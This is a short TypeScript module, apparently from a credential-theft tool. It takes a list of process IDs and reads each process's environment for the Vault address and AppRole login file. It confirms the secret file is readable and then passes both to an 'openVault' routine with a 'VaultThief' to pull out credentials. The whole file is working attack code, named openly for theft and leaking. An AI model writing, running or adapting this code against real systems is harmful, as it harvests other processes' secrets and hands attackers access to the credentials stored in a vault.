import { ProcessView } from '../../host/process-view.ts';
import type { LeakAct } from '../leak-act.ts';
import { readFrom } from '../read-if-there.ts';
import { openVault, type VaultThief } from './vault-bootstrap-secret.ts';

/**
 * A way into the vault for each of these processes whose environment says where the vault is and which file it
 * logs in with; the others' yield nothing.
 */
export function vaultWays(pids: readonly number[], thief: VaultThief): LeakAct[] {
  return pids.map((pid) => {
    let vault: Promise<LeakAct | undefined> | undefined;
    return {
      look: async () => {
        vault ??= openVaultOf(pid, thief);
        return (await (await vault)?.look()) ?? { credentials: [] };
      },
    };
  });
}

async function openVaultOf(pid: number, thief: VaultThief): Promise<LeakAct | undefined> {
  const environment = await new ProcessView([pid]).environment(pid);
  const [vaultUrl, secretFile] = [environment.get('VAULT_ADDR'), environment.get('VAULT_APPROLE_FILE')];
  if (vaultUrl === undefined || secretFile === undefined) return undefined;
  if ((await readFrom(secretFile)) === undefined) return undefined;
  return openVault({ vaultUrl, secretFile }, thief);
}
